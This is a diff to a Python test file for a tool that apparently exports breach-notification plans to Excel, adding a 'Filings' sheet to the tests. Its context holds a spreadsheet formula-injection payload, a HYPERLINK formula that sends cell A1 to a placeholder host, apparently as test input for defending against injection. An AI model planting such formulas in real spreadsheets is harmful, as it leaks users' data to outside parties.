@@ -35,7 +35,16 @@ from notifyplanner.report import DISCLAIMER, STATUS_WORDS
 from tests.jurisdictions.statute import plan_for
 
 MADE_ON = date(2026, 10, 20)
-SHEETS = ["Summary", "Obligations", "Details", "Timeline", "Residents", "Credit monitoring", "Sources"]
+SHEETS = [
+    "Summary",
+    "Obligations",
+    "Details",
+    "Timeline",
+    "Residents",
+    "Credit monitoring",
+    "Filings",
+    "Sources",
+]
 INJECTIONS = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"Click me")',
     "+1",
@@ -101,7 +110,9 @@ def test_same_plan_same_bytes(sample_plan: Plan, rulebook: Rulebook):
     assert props.modified == datetime(2026, 10, 20)
 
 
-@pytest.mark.parametrize("sheet", ["Obligations", "Details", "Residents", "Credit monitoring", "Sources"])
+@pytest.mark.parametrize(
+    "sheet", ["Obligations", "Details", "Residents", "Credit monitoring", "Filings", "Sources"]
+)
 def test_header_bold_and_frozen(sample_book: Workbook, sheet: str):
     ws = sample_book[sheet]
     assert all(cell.font.bold for cell in ws[1] if cell.value is not None)
@@ -179,7 +190,7 @@ def test_obligations_table_covers_every_row(sample_book: Workbook, sample_plan: 
 
 def test_table_names_are_valid_excel_names(sample_book: Workbook):
     names = [name for ws in sample_book.worksheets for name in ws.tables]
-    assert set(names) == {"Obligations", "Details", "Residents", "CreditMonitoring", "Sources"}
+    assert set(names) == {"Obligations", "Details", "Residents", "CreditMonitoring", "Filings", "Sources"}
     for name in names:
         assert re.fullmatch(r"[A-Za-z_][A-Za-z0-9_.]{0,254}", name)
         assert not re.fullmatch(r"[A-Za-z]{1,3}\d+|[RrCc]\d*", name)  # never a cell reference
